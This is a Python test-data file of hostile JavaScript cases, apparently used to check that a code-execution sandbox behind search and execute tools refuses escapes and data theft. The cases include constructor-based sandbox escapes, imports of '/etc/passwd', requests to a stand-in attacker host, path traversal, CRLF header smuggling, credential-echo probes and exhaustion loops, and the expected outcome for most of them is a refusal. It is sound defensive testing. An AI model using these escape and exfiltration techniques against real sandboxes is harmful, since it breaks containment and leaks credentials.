"""The hostile-script corpus, as data.

Each case: (id, category, tool, code, expect, profile). Placeholders in code:
%MK% a marker unique to the case (so the counting upstream can tell whether
anything of it was sent), %EVIL% host:port of an upstream nothing may ever
reach, %CNT% host:port of the counting upstream.

expect is (kind, any_of, none_of):
  ok        the result text equals any_of[0]
  has       a result (not an error) whose text contains one of any_of
  err       isError, and the text contains one of any_of (if given)
  limit     isError naming one of the limits in any_of ("time", "memory",
            "stack", "requests"), within the time limit + 250 ms
  bounded   any tool result (error or not), within the time limit + 250 ms
  refused   isError (text containing one of any_of, if given) and nothing
            carrying the case's marker reached any upstream
  nohit     any tool result; nothing carrying the marker reached the evil
            upstream or the counting upstream outside the API's base path
  follow    the redirect was followed inside the base path, once, with the
            credential re-added by the host
  once      isError SyntaxError; the console line `once-<marker>` appears once
            and the upstream received exactly one POST with the marker
For every case, in addition: a tool result (never a JSON-RPC error, a hang
or a crash) within the time limit + 250 ms; no canary credential in any
encoding in the text; text never contains any none_of; and a benign call of
the same tool right after answers correctly within 1 s.

The cross-call plant/probe pairs are in PAIRS (see test_cross_call.py).
"""

from __future__ import annotations

from collections import namedtuple

Case = namedtuple("Case", "id category tool code expect profile")
Pair = namedtuple("Pair", "id tools plant probe expect")


def OK(text):
    return ("ok", (text,), ())


def HAS(*any_of, none=()):
    return ("has", tuple(any_of), tuple(none))


def ERR(*any_of, none=()):
    return ("err", tuple(any_of), tuple(none))


def LIMIT(*kinds, none=()):
    return ("limit", tuple(kinds), tuple(none))


def BOUNDED(none=()):
    return ("bounded", (), tuple(none))


def REFUSED(*any_of):
    return ("refused", tuple(any_of), ())


NOHIT = ("nohit", (), ())
FOLLOW = ("follow", (), ())
ONCE = ("once", ("SyntaxError",), ())

CASES: list[Case] = []


def add(id, category, tools, code, expect, profile="main"):
    tools = ("search", "execute") if tools == "both" else (tools,)
    for t in tools:
        cid = f"{id}-{t[0]}" if len(tools) > 1 else id
        CASES.append(Case(cid, category, t, code, expect, profile))


# ============================================================================ escape
# Nothing outside the sandbox is reachable: no module loader, process, network,
# timers, filesystem; Function/constructor tricks stay in the sandbox's realm.

for name in ["require", "process", "fetch", "XMLHttpRequest", "WebAssembly", "std", "os", "Deno", "Bun",
             "setImmediate", "module", "exports", "__dirname", "__filename",
             "scriptArgs", "print", "importScripts", "Worker", "WebSocket", "navigator", "document",
             "Buffer", "global", "loadFile", "evalScript", "bjson", "EventSource", "Request"]:
    add(f"escape-typeof-{name}", "escape", "both", f"async () => typeof {name}", OK("undefined"))

for i, spec in enumerate(["'os'", "'std'", "'./x.js'", "'/etc/passwd'", "'data:text/javascript,export default 1'",
                          "'file:///etc/passwd'", "'http://%EVIL%/x.js'"]):
    add(f"escape-dynamic-import-{i}", "escape", "both",
        f"async () => {{ const m = await import({spec}); return Object.keys(m); }}", ERR())
add("escape-static-import", "escape", "both", "import * as os from 'os';\nreturn os.exec(['id']);", ERR())
add("escape-static-import-std", "escape", "both", "import { getenv } from 'std';\nreturn getenv('CM_CNT_BEARER');", ERR())
add("escape-function-this", "escape", "both",
    "async () => [Function('return this')() === globalThis, typeof Function('return this')().process].join()",
    OK("true,undefined"))
add("escape-constructor-constructor", "escape", "both",
    "async () => (() => {}).constructor.constructor('return [typeof require, typeof process, typeof std].join()')()",
    OK("undefined,undefined,undefined"))
add("escape-async-function-ctor", "escape", "both",
    "async () => await Object.getPrototypeOf(async function(){}).constructor('return typeof os')()", OK("undefined"))
add("escape-generator-ctor", "escape", "both",
    "async () => Object.getPrototypeOf(function*(){}).constructor('yield typeof process')().next().value", OK("undefined"))
add("escape-indirect-eval", "escape", "both", "async () => (0, eval)('typeof process + typeof require')",
    OK("undefinedundefined"))
add("escape-console-ctor", "escape", "both",
    "async () => console.log.constructor('return typeof process')()", OK("undefined"))
add("escape-client-method-ctor", "escape", "execute",
    "async () => cnt.request.constructor('return typeof process')()", OK("undefined"))
add("escape-codemode-ctor", "escape", "search",
    "async () => codemode.tools.constructor('return typeof require')()", OK("undefined"))

STANDARD = ("Object Function Error EvalError RangeError ReferenceError SyntaxError TypeError URIError InternalError "
            "AggregateError SuppressedError Iterator Array parseInt parseFloat isNaN isFinite queueMicrotask decodeURI "
            "decodeURIComponent encodeURI encodeURIComponent escape unescape Infinity NaN undefined eval Number Boolean "
            "String Math Reflect Symbol DisposableStack AsyncDisposableStack globalThis BigInt Date RegExp JSON Proxy Map "
            "Set WeakMap WeakSet ArrayBuffer SharedArrayBuffer Uint8ClampedArray Int8Array Uint8Array Int16Array "
            "Uint16Array Int32Array Uint32Array BigInt64Array BigUint64Array Float16Array Float32Array Float64Array "
            "DataView Atomics Promise WeakRef FinalizationRegistry DOMException btoa atob performance console "
            "structuredClone URL URLSearchParams TextEncoder TextDecoder crypto setTimeout setInterval clearTimeout "
            "clearInterval")
ENUM = """async () => {
  const std = new Set('%s'.split(' ').concat(ALLOWED));
  const wellKnown = new Set(Object.getOwnPropertyNames(Symbol).map(k => Symbol[k]).filter(v => typeof v === 'symbol'));
  const extra = Reflect.ownKeys(globalThis).filter(k => !wellKnown.has(k)).map(String).filter(k => !std.has(k));
  return JSON.stringify(extra.sort());
}""" % STANDARD
add("escape-global-enumeration-s", "escape", "search", ENUM.replace("ALLOWED", "['spec', 'specs', 'codemode']"), OK("[]"))
add("escape-global-enumeration-e", "escape", "execute",
    ENUM.replace("ALLOWED", "['cnt', 'ro', 'bas', 'hb', 'hbk', 'hbb', 'api', 'codemode', 'progress']"), OK("[]"))
# Host functions hiding under non-enumerable or symbol keys of the objects we do give.
HIDDEN = """async () => {
  const seen = new Set(), out = [];
  const walk = (o, path, d) => {
    if (d > 3 || o === null || (typeof o !== 'object' && typeof o !== 'function') || seen.has(o)) return;
    seen.add(o);
    for (const k of Reflect.ownKeys(o)) {
      const name = String(k);
      if (/^__|host|native|rust|bridge|secret|token|env/i.test(name)) out.push(path + '.' + name);
      let v; try { v = Reflect.getOwnPropertyDescriptor(o, k).value; } catch (e) { continue; }
      walk(v, path + '.' + name, d + 1);
    }
  };
  for (const g of ROOTS) walk(globalThis[g], g, 0);
  return JSON.stringify(out);
}"""
add("escape-hidden-host-functions-e", "escape", "execute", HIDDEN.replace("ROOTS", "['cnt', 'ro', 'hb', 'codemode', 'console', 'progress']"), OK("[]"))
add("escape-progress-ctor", "escape", "execute",
    "async () => progress.constructor('return typeof process')()", OK("undefined"))
add("escape-hidden-host-functions-s", "escape", "search", HIDDEN.replace("ROOTS", "['codemode', 'console']"), OK("[]"))
# The web-standard globals: nothing of the host under any key, no other realm
# behind their constructors, and every one of them frozen.
WEB = ("['URL', 'URLSearchParams', 'TextEncoder', 'TextDecoder', 'crypto', 'structuredClone', 'atob', 'btoa', "
       "'setTimeout', 'setInterval', 'clearTimeout', 'clearInterval']")
# (URL's own `host` and `hostname` accessors are the standard's, not the host's.)
add("escape-hidden-host-functions-web", "escape", "both",
    HIDDEN.replace("ROOTS", WEB).replace("if (/^__|", "if (!/^(host|hostname)$/.test(name) && /^__|"), OK("[]"))
add("escape-web-globals-ctor", "escape", "both",
    "async () => [URL, TextEncoder, crypto.getRandomValues, structuredClone, setTimeout].map(f => f.constructor('return typeof process')()).join()",
    OK("undefined,undefined,undefined,undefined,undefined"))
add("escape-web-globals-frozen", "escape", "both",
    "async () => %s.map(n => globalThis[n]).every(v => Object.isFrozen(v) && (typeof v !== 'function' || !v.prototype || Object.isFrozen(v.prototype)))" % WEB,
    OK("true"))
# Their native halves, fed what no wrapper would pass: a clear error or a value, the server fine.
for id, code in {
    "url-huge": "new URL('https://x.test/' + 'a'.repeat(5e6))",
    "url-huge-base": "new URL('a', 'https://x.test/' + 'b'.repeat(5e6))",
    "url-huge-setter": "{ const u = new URL('https://x.test/'); u.pathname = 'p'.repeat(3e6); return u.href.length; }",
    "url-setter-growth": "{ const u = new URL('https://x.test/'); for (;;) u.search = u.search + u.search + 'q'; }",
    "url-search-params-huge": "new URLSearchParams('a=' + '%FF'.repeat(2e6)).get('a').length",
    "url-search-params-growth": "{ const p = new URLSearchParams(); for (let i = 0; ; i++) p.append('k' + i, 'v'.repeat(1000)); }",
    "url-search-params-append-loop": "{ const u = new URL('https://x.test/'); for (let i = 0; ; i++) u.searchParams.append('k', i); }",
    "url-fake-this": "Object.getOwnPropertyDescriptor(URL.prototype, 'href').get.call({})",
    "url-proxy-input": "new URL(new Proxy({}, {get() { for (;;) {} }}))",
    "text-decoder-fake-buffer": "{ ArrayBuffer[Symbol.hasInstance] = () => true; return new TextDecoder().decode({byteLength: 2 ** 40}); }",
    "text-decoder-lying-view": "{ const v = new Uint8Array(4); Object.defineProperty(v, 'byteLength', {get: () => 2 ** 40}); Object.defineProperty(v, 'byteOffset', {get: () => 2 ** 52}); return new TextDecoder().decode(v); }",
    "text-decoder-detached": "{ const b = new ArrayBuffer(8); const v = new Uint8Array(b); structuredClone; b.transfer(); return new TextDecoder().decode(v); }",
    "text-decoder-huge": "new TextDecoder().decode(new Uint8Array(40 << 20)).length",
    "text-encoder-huge": "{ let s = '\\u{1F600}'.repeat(1 << 22); for (;;) new TextEncoder().encode(s); }",
    "get-random-values-huge": "crypto.getRandomValues(new Uint8Array(1 << 20))",
    "get-random-values-lying-length": "{ const a = new Uint8Array(8); Object.defineProperty(a, 'byteLength', {get: () => 16}); return crypto.getRandomValues(a).length; }",
    "get-random-values-loop": "{ const a = new Uint8Array(65536); for (;;) crypto.getRandomValues(a); }",
    "random-uuid-loop": "{ for (;;) crypto.randomUUID(); }",
    "structured-clone-cyclic": "{ const o = {a: [1, 2]}; o.self = o; o.a.push(o); const c = structuredClone(o); return c.self === c && c.a[2] === c && c !== o; }",
    "structured-clone-huge": "{ const a = Array.from({length: 1e6}, (_, i) => ({i, s: 'x'})); for (;;) structuredClone(a); }",
    "structured-clone-deep": "{ let o = {}; for (let i = 0; i < 1e6; i++) o = {o}; return typeof structuredClone(o); }",
    "structured-clone-proxy-spin": "structuredClone(new Proxy({}, {ownKeys() { for (;;) {} }}))",
    "structured-clone-getter-spin": "structuredClone({get x() { for (;;) {} }})",
    "structured-clone-getter-grows": "{ const o = {}; let n = 0; Object.defineProperty(o, 'x', {enumerable: true, get() { return {y: o, n: n++}; }}); return structuredClone(o).x.n; }",
    "structured-clone-function": "structuredClone({f() {}})",
    "structured-clone-self-map": "{ const m = new Map(); m.set(m, m); const c = structuredClone(m); return c.get(c) === c; }",
    "atob-huge": "atob('QUJD'.repeat(1 << 22)).length",
    "btoa-wide": "btoa('\u20AC'.repeat(1e6))",
    "console-table-huge": "{ console.table(Array.from({length: 1e5}, (_, i) => ({i, s: 'y'.repeat(1000)}))); return 1; }",
    "console-table-loop": "{ const rows = [{a: 1, b: 2}]; for (;;) console.table(rows); }",
}.items():
    add(f"native-web-{id}", "escape", "both", "async () => {\nreturn " + code + ";\n}", BOUNDED())
add("escape-stack-paths", "escape", "both",
    "async () => { try { null.x } catch (e) { return /\\/(home|root|work|usr|tmp)\\/|\\.rs\\b/.test(String(e.stack)); } }", OK("false"))

# Host bridge functions with hostile arguments: a clear error, nothing sent, the server fine.
BRIDGE_ARGS = {
    "none": "", "number": "42", "null": "null", "symbol": "Symbol('x')", "function": "() => 1", "bigint": "10n",
    "path-number": "{path: 42}", "path-array": "{path: ['/items', '%MK%']}", "method-number": "{path: '/items?%MK%', method: 42}",
    "headers-string": "{path: '/items?%MK%', headers: 'X-A: 1'}", "headers-nested": "{path: '/items?%MK%', headers: {'X-A': {b: 1}}}",
    "query-nested": "{path: '/items?%MK%', query: {a: {b: {c: 1}}}}", "query-bigint": "{path: '/items?%MK%', query: {a: 10n}}",
    "body-bigint": "{path: '/once/%MK%', method: 'POST', body: {n: 10n}}",
    "getter-throws": "{get path() { throw new Error('boom-%MK%'); }}",
    "proxy-throws": "new Proxy({}, {get() { throw new Error('trap-%MK%'); }, ownKeys() { throw new Error('keys'); }})",
    "path-tostring-throws": "{path: {toString() { throw new Error('ts'); }}}",
    "route-param-throws": "'GET /items/{id}', {id: {toString() { throw new Error('ts'); }}}",
}
for k, arg in BRIDGE_ARGS.items():
    add(f"bridge-request-{k}", "escape", "execute", f"async () => cnt.request({arg})", REFUSED())
add("bridge-request-cyclic", "escape", "execute",
    "async () => { const o = {path: '/once/%MK%', method: 'POST', body: {}}; o.body.self = o; return cnt.request(o); }", REFUSED())
add("bridge-request-deep", "escape", "execute",
    "async () => { let b = {}; for (let i = 0; i < 1e5; i++) b = {b}; return cnt.request({path: '/once/%MK%', method: 'POST', body: b}); }",
    REFUSED())
add("bridge-request-huge-path", "escape", "execute", "async () => cnt.request({path: '/items/%MK%' + 'a'.repeat(2e7)})", REFUSED())
add("bridge-request-tojson-huge", "escape", "execute",
    "async () => cnt.request({path: '/once/%MK%', method: 'POST', body: {toJSON() { return 'x'.repeat(3e7); }}})", REFUSED())
add("bridge-request-proxy-many-keys", "escape", "execute",
    "async () => cnt.request(new Proxy({path: '/items?%MK%'}, {ownKeys() { return Array.from({length: 1e6}, (_, i) => 'k' + i); }}))",
    BOUNDED())
add("bridge-request-foreign-this", "escape", "execute",
    "async () => { try { await Reflect.apply(cnt.request, {}, ['GET http://%EVIL%/%MK%']); } catch (e) { return 'refused'; } }", OK("refused"))
for k, arg in {"number": "42", "string": "'args'", "bigint": "{n: 10n}",
               "getter-throws": "{get x() { throw new Error('boom'); }}",
               "proxy": "new Proxy({}, {ownKeys() { throw new Error('keys'); }})",
               "cyclic": "(() => { const o = {}; o.o = o; return o; })()",
               "deep": "(() => { let o = {}; for (let i = 0; i < 1e5; i++) o = {o}; return o; })()",
               "huge": "{s: 'x'.repeat(2e7)}"}.items():
    add(f"bridge-portal-{k}", "escape", "execute", f"async () => codemode.echo_args({arg})",
        BOUNDED() if k in ("huge",) else ERR())
add("bridge-portal-null", "escape", "execute", "async () => codemode.echo_args(null)", BOUNDED())
add("bridge-portal-symbol", "escape", "execute", "async () => codemode.echo_args({s: Symbol()})", BOUNDED())
for k, arg in {"cyclic": "(() => { const o = {}; o.o = o; return o; })()",
               "getter-throws": "{get x() { throw new Error('boom'); }}",
               "proxy-throws": "new Proxy({}, {get() { throw new Error('trap'); }, ownKeys() { throw new Error('k'); }})",
               "bigint": "10n", "symbol": "Symbol('s')", "huge": "'x'.repeat(2e7)",
               "deep": "(() => { let o = {}; for (let i = 0; i < 1e5; i++) o = {o}; return o; })()",
               "many-args": "...Array.from({length: 60000}, (_, i) => i)"}.items():
    add(f"bridge-console-{k}", "escape", "both", f"async () => {{ console.log({arg}); return 'done'; }}", BOUNDED())
for k, arg in {"number": "42", "tostring-throws": "{toString() { throw new Error('ts'); }}", "huge": "'x'.repeat(2e7)",
               "proxy": "new Proxy({}, {get() { throw new Error('trap'); }})", "many": "1, 2, 3, {}, []"}.items():
    add(f"bridge-types-{k}", "escape", "search", f"async () => {{ try {{ return typeof codemode.types({arg}); }} catch (e) {{ return 'threw'; }} }}",
        BOUNDED())
    add(f"bridge-tools-{k}", "escape", "search", f"async () => codemode.tools({arg}).length > 0", BOUNDED())
    add(f"bridge-find-{k}", "escape", "search",
        f"async () => {{ try {{ return Array.isArray(codemode.find({arg})); }} catch (e) {{ return 'threw'; }} }}", BOUNDED())
    add(f"bridge-find-options-{k}", "escape", "search",
        f"async () => {{ try {{ return Array.isArray(codemode.find('list', {arg})); }} catch (e) {{ return 'threw'; }} }}", BOUNDED())

# ============================================================================ exfiltration: requests out of bounds
# Every one refused with a clear error and nothing sent (checked with the counting upstreams).

OUT_OF_BOUNDS = {
    "absolute-http": "{path: 'http://%EVIL%/%MK%'}",
    "absolute-https": "{path: 'https://%EVIL%/%MK%'}",
    "absolute-space": "{path: ' http://%EVIL%/%MK%'}",
    "absolute-tab": "{path: '\\thttp://%EVIL%/%MK%'}",
    "scheme-relative": "{path: '//%EVIL%/%MK%'}",
    "scheme-only": "{path: 'http:%EVIL%/%MK%'}",
    "backslashes": "{path: '\\\\\\\\%EVIL%\\\\%MK%'}",
    "slash-backslash": "{path: '/\\\\%EVIL%/%MK%'}",
    "userinfo-at": "{path: '@%EVIL%/%MK%'}",
    "dotdot": "{path: '/../outside/%MK%'}",
    "dotdot-encoded-slash": "{path: '/..%2f..%2foutside/%MK%'}",
    "dotdot-encoded-dots": "{path: '/%2e%2e/outside/%MK%'}",
    "dotdot-upper": "{path: '/%2E%2E%2Foutside/%MK%'}",
    "dotdot-backslash": "{path: '/..\\\\outside/%MK%'}",
    "dotdot-encoded-backslash": "{path: '/..%5coutside/%MK%'}",
    "crlf-encoded": "{path: '/items%0d%0aX-Injected:%20%MK%'}",
    "crlf-raw": "{path: '/items\\r\\nX-Injected: %MK%'}",
    "route-absolute": "'GET http://%EVIL%/%MK%'",
    "route-scheme-relative": "'GET //%EVIL%/%MK%'",
    "route-param-dotdot": "'GET /items/{id}', {id: '../../outside/%MK%'}",
    "host-header": "{path: '/items?%MK%', headers: {Host: '%EVIL%'}}",
    # A full URL is read as a path only inside the API's own base URL
    # (http://%CNT%/api): every other spelling is refused.
    "absolute-upper-scheme": "{path: 'HTTP://%EVIL%/%MK%'}",
    "absolute-userinfo-evil": "{path: 'http://%CNT%@%EVIL%/api/%MK%'}",
    "absolute-userinfo-own": "{path: 'http://user:pw@%CNT%/api/items?%MK%'}",
    "absolute-own-host-outside": "{path: 'http://%CNT%/outside/%MK%'}",
    "absolute-own-host-prefix": "{path: 'http://%CNT%/apix/%MK%'}",
    "absolute-own-host-sibling": "{path: 'http://%CNT%/ro/items?%MK%'}",
    "absolute-own-dotdot": "{path: 'http://%CNT%/api/../outside/%MK%'}",
    "absolute-own-dotdot-encoded": "{path: 'http://%CNT%/api/%2e%2e/outside/%MK%'}",
    "absolute-own-encoded-base": "{path: 'http://%CNT%/%61pi/items?%MK%'}",
    "absolute-own-https": "{path: 'https://%CNT%/api/items?%MK%'}",
    "absolute-own-double-slash": "{path: 'http://%CNT%/api//%EVIL%/%MK%'}",
    "absolute-own-backslash": "{path: 'http://%CNT%\\\\api/items?%MK%'}",
    "route-absolute-own-outside": "'GET http://%CNT%/outside/%MK%'",
}
for k, arg in OUT_OF_BOUNDS.items():
    add(f"exfil-path-{k}", "exfiltration", "execute", f"async () => cnt.request({arg})", REFUSED())
# …and inside it, the URL a Next-Page or Link header gives is the path it names.
add("exfil-path-absolute-own-inside", "exfiltration", "execute",
    "async () => (await cnt.request({path: 'http://%CNT%/api/items?m=%MK%'})).status", OK("200"))

for h in ["Authorization", "authorization", "AUTHORIZATION", "Cookie", "Proxy-Authorization", "Connection",
          "Transfer-Encoding", "Content-Length", "Upgrade", "TE", "Keep-Alive", "Host"]:
    add(f"exfil-header-{h}", "exfiltration", "execute",
        f"async () => cnt.request({{path: '/items?%MK%', headers: {{'{h}': 'x-%MK%'}}}})", REFUSED())
add("exfil-header-credential-name", "exfiltration", "execute",
    "async () => ro.request({path: '/items?%MK%', headers: {'X-Api-Key': 'mine-%MK%'}})", REFUSED())
for k, hdrs in {"name-crlf": "{'X-A\\r\\nX-B': '%MK%'}", "value-lf": "{'X-A': 'a\\nX-B: %MK%'}",
                "value-nul": "{'X-A': 'a\\u0000%MK%'}", "name-space": "{'X A': '%MK%'}", "name-colon": "{'X:A': '%MK%'}",
                "name-empty": "{'': '%MK%'}"}.items():
    add(f"exfil-header-{k}", "exfiltration", "execute", f"async () => cnt.request({{path: '/items?%MK%', headers: {hdrs}}})", REFUSED())

# Method override on a read-only API: refused (or policed as the overridden method).
for k, req in {
    "x-http-method-override": "{path: '/items?%MK%', headers: {'X-HTTP-Method-Override': 'DELETE'}}",
    "x-http-method-override-lower": "{path: '/items?%MK%', headers: {'x-http-method-override': 'delete'}}",
    "x-method-override": "{path: '/items?%MK%', headers: {'X-Method-Override': 'PUT'}}",
    "x-http-method": "{path: '/items?%MK%', headers: {'X-HTTP-Method': 'DELETE'}}",
    "query-_method": "{path: '/items', query: {_method: 'DELETE', m: '%MK%'}}",
    "path-_method": "{path: '/items?_method=DELETE&m=%MK%'}",
}.items():
    add(f"exfil-override-{k}", "exfiltration", "execute", f"async () => ro.request({req})", REFUSED())
for m in ["DELETE", "delete", "POST", "PATCH", "PUT", "CONNECT", "TRACE", "PROPFIND", "GET\\r\\nX-A: 1", "GET /x", " GET"]:
    add(f"exfil-method-{m.split(chr(92))[0].strip().replace(' ', '_') or 'x'}{'-crlf' if chr(92) in m else ''}{'-space' if ' ' in m else ''}",
        "exfiltration", "execute", f"async () => ro.request({{method: '{m}', path: '/items?%MK%'}})", REFUSED())

# max_request_kib = 16 covers the whole request: URL, headers, body.
SIZE = {
    "query-in-path-48k": "ro.request({path: '/items?%MK%=' + 'a'.repeat(48 * 1024)})",
    "query-object-48k": "ro.request({path: '/items', query: {m: '%MK%', q: 'a'.repeat(48 * 1024)}})",
    "query-3mb": "ro.request({path: '/items', query: {m: '%MK%', q: 'a'.repeat(3e6)}})",
    "header-48k": "ro.request({path: '/items?%MK%', headers: {'X-Big': 'a'.repeat(48 * 1024)}})",
    "many-headers-40k": "ro.request({path: '/items?%MK%', headers: Object.fromEntries(Array.from({length: 40}, (_, i) => ['X-H' + i, 'a'.repeat(1024)]))})",
    "path-48k": "ro.request({path: '/items/%MK%' + 'a'.repeat(48 * 1024)})",
    "body-48k": "cnt.request({method: 'POST', path: '/once/%MK%', body: {s: 'a'.repeat(48 * 1024)}})",
    "body-plus-headers": "cnt.request({method: 'POST', path: '/once/%MK%', headers: {'X-Big': 'a'.repeat(10 * 1024)}, body: {s: 'a'.repeat(10 * 1024)}})",
}
for k, call in SIZE.items():
    add(f"exfil-size-{k}", "exfiltration", "execute", f"async () => {call}",
        REFUSED("max_request_kib", "16 KiB", "too large", "limit"))

# Redirects: followed only within the origin and base path; cross-origin returned, not followed.
REDIRECTS = {
    "out-of-base-path": "cnt.request({path: '/redir', query: {to: '/outside/%MK%'}})",
    "out-of-base-dotdot": "cnt.request({path: '/redir', query: {to: '/api/../outside/%MK%'}})",
    "cross-origin": "cnt.request({path: '/redir', query: {to: 'http://%EVIL%/%MK%'}})",
    "scheme-relative": "cnt.request({path: '/redir', query: {to: '//%EVIL%/%MK%'}})",
    "post-307-out": "cnt.request({method: 'POST', path: '/redir', query: {to: '/outside/%MK%', code: '307'}, body: {x: 1}})",
    "post-308-cross": "cnt.request({method: 'POST', path: '/redir', query: {to: 'http://%EVIL%/%MK%', code: '308'}, body: {x: 1}})",
    "other-api-base": "cnt.request({path: '/redir', query: {to: '/ro/items?%MK%'}})",
    "httpbin-to-evil": "hb.request({path: '/redirect-to', query: {url: 'http://%EVIL%/%MK%'}})",
    "httpbin-to-counting": "hbk.request({path: '/redirect-to', query: {url: 'http://%CNT%/outside/%MK%', status_code: 307}})",
}
for k, call in REDIRECTS.items():
    add(f"exfil-redirect-{k}", "exfiltration", "execute",
        f"async () => {{ try {{ const r = await {call}; return [r.status, r.headers && r.headers.location]; }} catch (e) {{ return String(e.message); }} }}",
        NOHIT)
add("exfil-redirect-inside-base", "exfiltration", "execute",
    "async () => (await cnt.request({path: '/redir', query: {to: '/api/items?%MK%'}})).status", FOLLOW)
add("exfil-redirect-loop", "exfiltration", "execute",
    "async () => cnt.request({path: '/redir', query: {to: '/api/redir?to=/api/redir'}})", BOUNDED())

# ============================================================================ exfiltration: canary credentials echoed back
# The counting upstream echoes the credential it received (bearer on cnt, api key on
# ro, basic on bas) in every encoding; httpbin echoes headers; the portal echo servers
# hand back their env/headers. Every case is also checked against the server log.

LEAK = """async () => {
  const out = {};
  try {
    const r = await API.request('GET /leak/ENC');
    console.log(r); console.log(JSON.stringify(r.headers));
    out.r = r;
    for (const v of Object.values(r.data || {})) {
      if (typeof v !== 'string') continue;
      try { out.atob = atob(v.replace(/-/g, '+').replace(/_/g, '/')); } catch (e) {}
      try { out.hex = v.match(/../g).map(h => String.fromCharCode(parseInt(h, 16))).join(''); } catch (e) {}
      try { out.pct = decodeURIComponent(v); } catch (e) {}
    }
  } catch (e) {
    console.log(e); console.log(String(e), JSON.stringify(e));
    out.e = {m: String(e && e.message), s: e && e.status, d: e && e.data, h: e && e.headers};
  }
  return out;
}"""
ENCODINGS = ["json", "json-u-all", "json-u-one", "json-slash", "text", "b64-0", "b64-1", "b64-2", "b64-hdr",
             "b64url-0", "b64url-1", "b64url-2", "hex", "HEX", "pct", "hdr-value", "hdr-name", "location",
             "400", "401", "403", "500", "gzip"]
for api in ("cnt", "ro", "bas"):
    for enc in ENCODINGS:
        add(f"canary-{api}-{enc}", "exfiltration", "execute", LEAK.replace("API", api).replace("ENC", enc), BOUNDED())
for api in ("hb", "hbk", "hbb"):
    for k, path in {"headers": "/headers", "anything": "/anything?x=1", "get": "/get",
                    "redirect-echo": "/redirect-to?url=/headers", "status-401": "/status/401",
                    "response-headers": "/response-headers?X-Echo=1"}.items():
        add(f"canary-{api}-{k}", "exfiltration", "execute",
            f"async () => {{ try {{ const r = await {api}.request('GET {path}'); console.log(JSON.stringify(r)); return r; }} "
            f"catch (e) {{ console.log(String(e)); return [String(e.message), JSON.stringify(e.data)]; }} }}", BOUNDED())
for api in ("hb", "hbk", "hbb"):
    # httpbin reflecting what it was sent, re-encoded: the echoed headers back through
    # /base64 and as response headers through /response-headers.
    add(f"canary-{api}-base64-reflect", "exfiltration", "execute",
        f"async () => {{ const h = (await {api}.request('GET /headers')).data.headers; "
        f"const r = await {api}.request('GET /base64/' + btoa(JSON.stringify(h)).replace(/\\+/g, '-').replace(/\\//g, '_')); return [h, r.data]; }}", BOUNDED())
    add(f"canary-{api}-response-headers-reflect", "exfiltration", "execute",
        f"async () => {{ const h = (await {api}.request('GET /headers')).data.headers; "
        f"const q = Object.fromEntries(Object.entries(h).map(([k, v]) => ['X-R-' + k, String(v)])); "
        f"const r = await {api}.request({{path: '/response-headers', query: q}}); return [r.headers, r.data]; }}", BOUNDED())
add("canary-hb-bearer", "exfiltration", "execute", "async () => (await hb.request('GET /bearer')).data", BOUNDED())
add("canary-hbb-basic-auth", "exfiltration", "execute",
    "async () => { try { return (await hbb.request('GET /basic-auth/hostile-user/guess')).data; } catch (e) { return [e.status, String(e.message)]; } }",
    BOUNDED())
PORTAL = """async () => { try { const r = await CALL; console.log(JSON.stringify(r)); return r; }
  catch (e) { console.log(String(e)); return [String(e && e.message), JSON.stringify(e)]; } }"""
for k, call in {"env": "codemode.echo_env({})", "fail": "codemode.echo_fail({})", "leaky": "codemode.echo_leaky({})",
                "http-headers": "codemode.echohttp_headers({})", "http-fail": "codemode.echohttp_fail({})",
                "http-leaky": "codemode.echohttp_leaky({})"}.items():
    add(f"canary-portal-{k}", "exfiltration", "execute", PORTAL.replace("CALL", call), BOUNDED())
for enc in ["raw", "b64", "b64-1", "b64-2", "b64url", "hex", "pct", "json-u"]:
    add(f"canary-portal-env-{enc}", "exfiltration", "execute", PORTAL.replace("CALL", f"codemode.echo_secret({{enc: '{enc}'}})"), BOUNDED())
    add(f"canary-portal-http-{enc}", "exfiltration", "execute", PORTAL.replace("CALL", f"codemode.echohttp_secret({{enc: '{enc}'}})"), BOUNDED())
add("canary-portal-tools-list", "exfiltration", "search", "async () => codemode.tools()", BOUNDED())
add("canary-portal-types", "exfiltration", "search", "async () => codemode.types()", BOUNDED())
add("canary-portal-find", "exfiltration", "search", "async () => codemode.find('secret leaky echo env token', {limit: 50})", BOUNDED())
add("canary-portal-types-leaky", "exfiltration", "search",
    "async () => [codemode.types('echo_leaky'), codemode.types('echohttp_leaky')]", BOUNDED())
add("portal-result-over-max-response", "exfiltration", "execute",
    "async () => (await codemode.echo_big({mb: 10})).length", ERR("max_response_kib", "KiB", "too large", "limit"))
add("canary-error-status-message", "exfiltration", "execute",
    "async () => { try { await cnt.request('GET /leak/403'); } catch (e) { return Object.getOwnPropertyNames(e).map(k => k + '=' + JSON.stringify(e[k])); } }",
    BOUNDED())

# ============================================================================ exhaustion
# Every one ends by the deadline (timeout_secs = 2) with an error naming the limit.

T, M, S = "time", "memory", "stack"
EXHAUST = [
    ("busy-loop", "both", "while (true) {}", LIMIT(T)),
    ("busy-loop-in-then", "both", "await Promise.resolve().then(() => { while (true) {} });", LIMIT(T)),
    ("microtask-requeue-then-spin", "both",
     "const f = () => { Promise.resolve().then(f); let x = 0; for (let i = 0; i < 1e5; i++) x += i; };\nf();\nawait new Promise(() => {});", LIMIT(T, M)),
    ("microtask-requeue-queueMicrotask", "both",
     "const f = () => { queueMicrotask(f); let x = 0; for (let i = 0; i < 1e5; i++) x += i; };\nf();\nawait new Promise(() => {});", LIMIT(T, M)),
    ("microtask-fork-bomb", "both",
     "const f = () => { Promise.resolve().then(f); Promise.resolve().then(f); };\nf();\nawait new Promise(() => {});", LIMIT(T, M)),
    ("await-loops-20000", "both",
     "await Promise.all(Array.from({length: 20000}, async () => { for (;;) await null; }));", LIMIT(T, M)),
    ("await-loop-one", "both", "for (;;) await null;", LIMIT(T)),
    ("array-join-huge-arraylike", "both", "Array.prototype.join.call({length: 2 ** 53 - 1}, '');", LIMIT(T, M)),
    ("array-join-comma-huge-arraylike", "both", "Array.prototype.join.call({length: 2 ** 53 - 1});", LIMIT(T, M)),
    ("array-reverse-huge-arraylike", "both", "Array.prototype.reverse.call({length: 2 ** 53 - 1});", LIMIT(T, M)),
    ("array-copyWithin-huge-arraylike", "both", "Array.prototype.copyWithin.call({length: 2 ** 53 - 1}, 0, 1);", LIMIT(T, M)),
    ("array-flat-huge-arraylike", "both", "Array.prototype.flat.call({length: 2 ** 53 - 1});", LIMIT(T, M)),
    ("array-flatMap-huge-arraylike", "both", "Array.prototype.flatMap.call({length: 2 ** 53 - 1}, x => x);", LIMIT(T, M)),
    ("array-shift-huge-arraylike", "both", "Array.prototype.shift.call({length: 2 ** 53 - 1});", LIMIT(T, M)),
